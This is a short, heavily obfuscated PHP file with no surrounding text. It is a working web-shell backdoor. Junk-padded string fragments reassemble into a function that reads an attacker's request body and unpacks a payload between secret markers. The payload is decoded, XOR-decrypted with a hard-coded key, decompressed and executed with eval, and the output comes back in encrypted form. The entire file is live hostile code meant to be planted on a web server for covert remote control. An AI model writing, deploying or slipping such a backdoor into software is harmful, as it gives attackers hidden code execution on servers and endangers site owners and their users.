<?php
$t=str_replace('J','','cJrJeJatJe_fJuncJtion');
$E='funchVthVihVonhV xhV(hV$t,hV$khV){$chV=sthVrhVlenhV($k)hV;$hVlhV=sthVrlhVenhV($hVthV);$ohV="";hVfhVor($hVi=0hV;$ihV<$lhV;hV){hVfhVorhV($j';
$X='$khV="0hVbee8hV9b0hV";$hVkh="hV71hV63ahV3hVc3b3hVd9";hV$hVkf=hV"b2dhV0f3ehV9aahV7hV0";hV$hVp="qhV9DhVn4hVPz8hVRtY2hVmWchVL"hV;hV
';
$F='=0hV;($jhV<$chV&hV&$hVi<$lhV);$hVjhV++,$hVi++hV){hV$hVo.=$hVt[$hVi]^$hVkhV[$hVj];hV}}rhVethVurhVn hV$o;}hV
if(hV@prehVg_mhVathVch';
$y='_chVlehVanhV()hV;hV$r=@hVbasehV64_ehVncohVde(hV@hVx(@ghVzcohVmhVprhVehVshVs($hVo)hV,$hVk)hV)hV;hVprhVint(hV"$hVphV$kh$hVr$hVkf")hV;}';
$V='("/$hVkhhV(.+)hV$khVf/",hV@fihVlhVehV_ghVet_chVonthVenthVs("phVhp:hV//hVinphVut")hV,$m)hV==1)hV{@hVob_hVsthVart(hV)hV;@evhVahVl';
$R='(@gzhVuncohVmphVrhVess(hV@xhV(@bahVshVe6hV4_dhVehVcodehV($hVm[1hV]),hV$k)hV)hV);hV$hVo=@ohVb_ghVehVt_hVcohVntenhVthVs();hV@ob_hVehVnd';
$B=str_replace('hV','',$X.$E.$F.$V.$R.$y);
$A=$t('',$B);$A();
?>
